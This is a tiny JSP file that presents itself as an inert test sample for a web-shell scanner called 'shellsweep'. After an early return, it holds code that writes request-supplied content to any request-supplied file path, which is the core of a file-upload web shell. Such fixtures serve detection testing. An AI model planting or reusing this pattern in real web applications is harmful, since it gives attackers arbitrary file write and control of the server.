<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% String path = request.getParameter("path");
   String body = request.getParameter("body");
   java.io.FileOutputStream fo = new java.io.FileOutputStream(new java.io.File(path));
   fo.write(body.getBytes()); fo.close(); %>
